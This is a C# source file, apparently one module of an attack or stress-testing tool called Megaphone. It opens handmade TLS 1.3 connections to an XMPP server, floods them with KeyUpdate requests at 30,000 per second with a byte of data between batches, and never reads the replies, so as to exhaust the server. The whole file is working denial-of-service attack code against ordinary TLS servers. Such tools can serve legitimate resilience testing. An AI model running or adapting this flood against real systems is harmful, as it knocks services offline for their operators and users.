using System.Net;
using System.Net.Sockets;
using System.Text;

namespace Megaphone.Attacks;

/// <summary>
/// Requests for key updates (RFC 8446, section 4.6.3) from clients that never read, with a byte of white space behind every sixtieth: as many as may
/// come in a row are not exceeded, and each would be owed an answer that cannot be sent.
/// </summary>
internal sealed class UnreadKeyUpdates : CostlyTls
{
    private const int UpdatesPerSecond = 30_000;
    private const int UpdatesBetweenData = 60;

    /// <inheritdoc/>
    public override string Name => "key-updates-unread";

    /// <inheritdoc/>
    public override string Summary => "TLS 1.3: clients request key updates, with data between them, and never read";

    /// <inheritdoc/>
    protected override int BytesAtATime => 64 << 10;

    /// <inheritdoc/>
    protected override bool Reads => false;

    /// <inheritdoc/>
    protected override async Task<(Socket Socket, byte[] Bytes)> MakeAsync(IPEndPoint to, string keyLog, int number, TimeSpan length)
    {
        HandmadeTls tls = await HandmadeTls.ConnectAsync(to, keyLog);
        int rounds = (int)(UpdatesPerSecond * length.TotalSeconds) / UpdatesBetweenData;
        byte[] header = tls.Seal(HandmadeTls.ApplicationData, Encoding.ASCII.GetBytes(XmppClient.Header));
        return (tls.Socket, [.. header, .. Enumerable.Range(0, rounds).SelectMany(_ => Round(tls))]);
    }

    private static byte[] Round(HandmadeTls tls) =>
        [.. tls.SealKeyUpdates(UpdatesBetweenData, ask: true), .. tls.Seal(HandmadeTls.ApplicationData, " "u8)];
}
